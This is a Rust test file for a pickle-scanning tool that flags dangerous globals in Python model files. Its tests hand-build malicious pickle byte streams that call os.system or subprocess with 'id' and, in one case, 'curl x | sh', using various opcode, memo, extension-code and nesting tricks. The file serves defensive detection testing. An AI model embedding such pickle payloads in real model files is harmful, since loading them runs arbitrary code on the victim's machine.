//! Opcode-level tests of the walker, through the public API, on hand-built streams.

use spawnguard_scan::{scan_bytes, FileReport, Verdict};

fn s4(s: &str) -> Vec<u8> {
    // SHORT_BINUNICODE
    let mut v = vec![0x8c, s.len() as u8];
    v.extend_from_slice(s.as_bytes());
    v
}

fn cat(parts: &[&[u8]]) -> Vec<u8> {
    parts.concat()
}

fn calls(r: &FileReport) -> Vec<String> {
    r.findings.iter().filter_map(|f| f.call.clone()).collect()
}

fn globals(r: &FileReport) -> Vec<String> {
    r.findings.iter().map(|f| f.global.clone()).collect()
}

#[test]
fn global_reduce_reconstructs_the_call() {
    let r = scan_bytes("t", b"cos\nsystem\n(S'curl x | sh'\ntR.");
    assert_eq!(r.verdict, Verdict::Dangerous);
    assert_eq!(calls(&r), vec![r#"os.system("curl x | sh")"#]);
    assert_eq!(r.findings[0].offset, 0);
    assert!(r.errors.is_empty(), "{:?}", r.errors);
    assert_eq!(r.string_literals, vec!["curl x | sh"]);
}

#[test]
fn stack_global_inst_obj_newobj_newobj_ex() {
    let sg = cat(&[
        b"\x80\x04",
        &s4("subprocess"),
        &s4("run"),
        b"\x93",
        &s4("id"),
        b"\x85R.",
    ]);
    assert_eq!(
        calls(&scan_bytes("t", &sg)),
        vec![r#"subprocess.run("id")"#]
    );
    let inst = b"(S'id'\nisubprocess\ncall\n.";
    assert_eq!(
        calls(&scan_bytes("t", inst)),
        vec![r#"subprocess.call("id")"#]
    );
    let obj = b"(csubprocess\ncall\nS'id'\no.";
    assert_eq!(
        calls(&scan_bytes("t", obj)),
        vec![r#"subprocess.call("id")"#]
    );
    let newobj = b"\x80\x02csubprocess\nPopen\nX\x02\x00\x00\x00id\x85\x81.";
    assert_eq!(
        calls(&scan_bytes("t", newobj)),
        vec![r#"subprocess.Popen("id")"#]
    );
    let nx = cat(&[
        b"\x80\x04",
        &s4("subprocess"),
        &s4("Popen"),
        b"\x93",
        &s4("id"),
        b"\x85}",
        &s4("shell"),
        b"\x88s\x92.",
    ]);
    assert_eq!(
        calls(&scan_bytes("t", &nx)),
        vec![r#"subprocess.Popen("id", **{"shell": True})"#]
    );
}

#[test]
fn build_on_a_dangerous_object_is_still_flagged_and_walk_continues() {
    let b = b"\x80\x02cmylib\nThing\n)\x81}X\x01\x00\x00\x00aK\x01sbcos\nsystem\nX\x02\x00\x00\x00id\x85R.";
    let r = scan_bytes("t", b);
    assert_eq!(r.verdict, Verdict::Dangerous);
    assert_eq!(globals(&r), vec!["mylib.Thing", "os.system"]);
}

#[test]
fn memo_forms_resolve_stack_global() {
    // BINPUT/BINGET
    let a = cat(&[
        b"\x80\x04",
        &s4("os"),
        b"q\x05",
        &s4("system"),
        b"q\x060",
        b"0h\x05h\x06\x93",
        &s4("id"),
        b"\x85R.",
    ]);
    // LONG_BINPUT/LONG_BINGET
    let b = cat(&[
        b"\x80\x04",
        &s4("os"),
        b"r\x00\x00\x01\x00",
        &s4("system"),
        b"r\x01\x00\x01\x000",
        b"0j\x00\x00\x01\x00j\x01\x00\x01\x00\x93",
        &s4("id"),
        b"\x85R.",
    ]);
    // PUT/GET (text) and MEMOIZE
    let c = cat(&[
        b"\x80\x04",
        &s4("os"),
        b"p12\n",
        &s4("system"),
        b"\x940",
        b"0g12\nh\x01\x93",
        &s4("id"),
        b"\x85R.",
    ]);
    for (name, s) in [("binput", a), ("long", b), ("text+memoize", c)] {
        let r = scan_bytes(name, &s);
        assert_eq!(
            calls(&r),
            vec![r#"os.system("id")"#],
            "{name}: {:?} {:?}",
            r.findings,
            r.errors
        );
    }
}

#[test]
fn missing_memo_key_is_an_error_at_its_offset() {
    let r = scan_bytes("t", b"\x80\x04h\x07.");
    assert_eq!(r.errors.len(), 1);
    assert_eq!(r.errors[0].offset, 2);
    assert!(
        r.errors[0].message.contains("memo key 7"),
        "{}",
        r.errors[0].message
    );
}

#[test]
fn python2_names_are_remapped_below_protocol_3() {
    let r = scan_bytes("t", b"\x80\x02c__builtin__\ngetattr\n.");
    assert_eq!(globals(&r), vec!["builtins.getattr"]);
    assert_eq!(
        r.findings[0].written_as.as_deref(),
        Some("__builtin__.getattr")
    );
    assert_eq!(r.verdict, Verdict::Dangerous);
    let r = scan_bytes("t", b"ccopy_reg\n_reconstructor\n.");
    assert_eq!(r.verdict, Verdict::Safe, "{:?}", r.findings);
    // protocol 3 does not remap, but the Python 2 spelling is still judged
    let r = scan_bytes("t", b"\x80\x03ccommands\ngetoutput\n.");
    assert_eq!(r.verdict, Verdict::Dangerous);
}

#[test]
fn dotted_names_protocol_4() {
    let s = cat(&[
        b"\x80\x04",
        &s4("logging"),
        &s4("os.system"),
        b"\x93",
        &s4("id"),
        b"\x85R.",
    ]);
    let r = scan_bytes("t", &s);
    assert_eq!(r.verdict, Verdict::Dangerous);
    assert_eq!(calls(&r), vec![r#"logging.os.system("id")"#]);
}

#[test]
fn ext_codes_registered_in_stream_resolve() {
    let s = b"\x80\x02ccopyreg\nadd_extension\n(X\x02\x00\x00\x00osX\x06\x00\x00\x00systemM\x34\x12tR0\x83\x34\x12X\x02\x00\x00\x00id\x85R.";
    let r = scan_bytes("t", s);
    assert_eq!(
        r.verdict,
        Verdict::Dangerous,
        "{:?} {:?}",
        r.findings,
        r.errors
    );
    assert!(r
        .findings
        .iter()
        .any(|f| f.global == "os.system" && f.written_as.as_deref() == Some("EXT code 4660")));
    // unregistered: suspicious, and the walk stops there like the loader
    let r = scan_bytes("t", b"\x80\x02\x82\x07.");
    assert_eq!(r.verdict, Verdict::Suspicious);
    assert_eq!(r.errors[0].offset, 2);
}

#[test]
fn frame_is_followed() {
    let body = cat(&[&s4("os"), &s4("system"), b"\x93", &s4("id"), b"\x85R."]);
    let mut s = b"\x80\x04\x95".to_vec();
    s.extend_from_slice(&(body.len() as u64).to_le_bytes());
    s.extend_from_slice(&body);
    let r = scan_bytes("t", &s);
    assert_eq!(calls(&r), vec![r#"os.system("id")"#]);
    assert!(r.errors.is_empty());
}

#[test]
fn truncated_stream_is_judged_by_what_came_before() {
    let full = b"\x80\x02cposix\nsystem\nX\x02\x00\x00\x00id\x85R.";
    for cut in 16..full.len() - 1 {
        let r = scan_bytes("t", &full[..cut]);
        assert_eq!(r.verdict, Verdict::Dangerous, "cut at {cut}");
        assert_eq!(r.errors.len(), 1, "cut at {cut}: {:?}", r.errors);
    }
    let r = scan_bytes("t", &full[..full.len() - 1]);
    assert_eq!(r.errors[0].offset as usize, full.len() - 1);
    assert!(r.errors[0].message.contains("without STOP"));
    // truncated inside a length-prefixed argument: error at the opcode's offset
    let r = scan_bytes("t", &full[..20]);
    assert_eq!(r.errors[0].offset, 16);
}

#[test]
fn invalid_opcode_error_names_offset() {
    let r = scan_bytes("f.pkl", b"\x80\x04K\x01\xff.");
    assert_eq!(r.errors.len(), 1);
    assert_eq!((r.errors[0].member.as_str(), r.errors[0].offset), ("", 4));
    assert!(r.errors[0].message.contains("0xff"));
}

#[test]
fn concatenated_pickles_are_all_walked() {
    let s = cat(&[b"\x80\x04K\x01.", b"\x80\x04K\x02.", b"cos\nsystem\n."]);
    let r = scan_bytes("t", &s);
    assert_eq!(r.pickles, 3);
    assert_eq!(r.verdict, Verdict::Dangerous);
    assert_eq!(r.findings[0].offset, 10);
}

#[test]
fn nested_pickle_in_loader_argument() {
    let inner = b"\x80\x02cposix\nsystem\nX\x02\x00\x00\x00id\x85R.";
    let mut s = b"\x80\x03cpickle\nloads\nC".to_vec();
    s.push(inner.len() as u8);
    s.extend_from_slice(inner);
    s.extend_from_slice(b"\x85R.");
    let r = scan_bytes("t", &s);
    assert_eq!(r.verdict, Verdict::Dangerous);
    let d: Vec<_> = r.dangerous().collect();
    assert_eq!(d.len(), 1);
    assert_eq!(d[0].member, "nested@16");
    // a protocol-0 pickle (no PROTO header) is scanned too because the loader gets it
    let inner0 = b"cos\nsystem\n(S'id'\ntR.";
    let mut s = b"\x80\x03cpickle\nloads\nC".to_vec();
    s.push(inner0.len() as u8);
    s.extend_from_slice(inner0);
    s.extend_from_slice(b"\x85R.");
    assert_eq!(scan_bytes("t", &s).verdict, Verdict::Dangerous);
}

#[test]
fn nesting_is_bounded() {
    let mut p = b"\x80\x02cposix\nsystem\n.".to_vec();
    for _ in 0..40 {
        let mut outer = b"\x80\x03cpickle\nloads\nB".to_vec();
        outer.extend_from_slice(&(p.len() as u32).to_le_bytes());
        outer.extend_from_slice(&p);
        outer.extend_from_slice(b"\x85R.");
        p = outer;
    }
    let r = scan_bytes("deep", &p);
    assert!(
        r.errors.iter().any(|e| e.message.contains("too deep")),
        "{:?}",
        r.errors
    );
}

#[test]
fn safe_torch_globals_and_unknown_globals() {
    let r = scan_bytes(
        "t",
        b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\nccollections\nOrderedDict\n)R.",
    );
    assert_eq!(r.verdict, Verdict::Safe, "{:?}", r.findings);
    let r = scan_bytes("t", b"\x80\x02cmylib\nModel\n)\x81.");
    assert_eq!(r.verdict, Verdict::Suspicious);
}

#[test]
fn non_pickle_text_is_not_a_model() {
    for text in [
        &b"class Foo:\n    pass\n"[..],
        b"{\"a\": 1}",
        b"hello world",
        b"",
    ] {
        let r = scan_bytes("t", text);
        assert!(!r.is_model(), "{:?}", String::from_utf8_lossy(text));
        assert_eq!(r.verdict, Verdict::Safe);
    }
}

#[test]
fn stack_underflow_and_bad_stack_global_are_errors() {
    let r = scan_bytes("t", b"\x80\x04R.");
    assert_eq!(r.errors[0].offset, 2);
    let r = scan_bytes("t", b"\x80\x04K\x01K\x02\x93.");
    assert!(r.errors[0].message.contains("STACK_GLOBAL"));
}

#[test]
fn zip_errors_name_the_member() {
    // central directory pointing at a local header that is not there
    let mut z = Vec::new();
    z.extend_from_slice(b"PK\x01\x02");
    z.extend_from_slice(&[0u8; 24]);
    z.extend_from_slice(&5u16.to_le_bytes()); // name len
    z.extend_from_slice(&[0u8; 12]);
    z.extend_from_slice(&999u32.to_le_bytes()); // local header offset
    z.extend_from_slice(b"a.pkl");
    let cd_len = z.len() as u32;
    let mut file = b"PK\x03\x04".to_vec(); // so it is recognised as zip
    file.extend_from_slice(&[0u8; 26]);
    let cd_off = file.len() as u32;
    file.extend_from_slice(&z);
    file.extend_from_slice(b"PK\x05\x06\x00\x00\x00\x00\x01\x00\x01\x00");
    file.extend_from_slice(&cd_len.to_le_bytes());
    file.extend_from_slice(&cd_off.to_le_bytes());
    file.extend_from_slice(&[0, 0]);
    let r = scan_bytes("z.pt", &file);
    assert!(
        r.errors
            .iter()
            .any(|e| e.member == "a.pkl" && e.message.contains("local header")),
        "{:?}",
        r.errors
    );
}

#[test]
fn scan_cache_rescans_changed_files() {
    let dir = std::env::temp_dir().join(format!("sg-cache-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    let f = dir.join("m.pkl");
    std::fs::write(&f, b"\x80\x04K\x01.").expect("write");
    let cache = spawnguard_scan::ScanCache::new(16);
    assert_eq!(cache.scan(&f).verdict, Verdict::Safe);
    std::fs::write(&f, b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R.").expect("write");
    assert_eq!(cache.scan(&f).verdict, Verdict::Dangerous);
    assert_eq!(cache.len(), 2);
    let missing = cache.scan(&dir.join("nope.pkl"));
    assert_eq!(missing.errors.len(), 1);
    assert!(missing.errors[0].message.contains("cannot open"));
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn bytes_arguments_render_python_style() {
    let r = scan_bytes("t", b"\x80\x03cos\nsystem\nC\x04\x00a\"\xff\x85R.");
    assert_eq!(calls(&r), vec![r#"os.system(b"\x00a\"\xff")"#]);
}
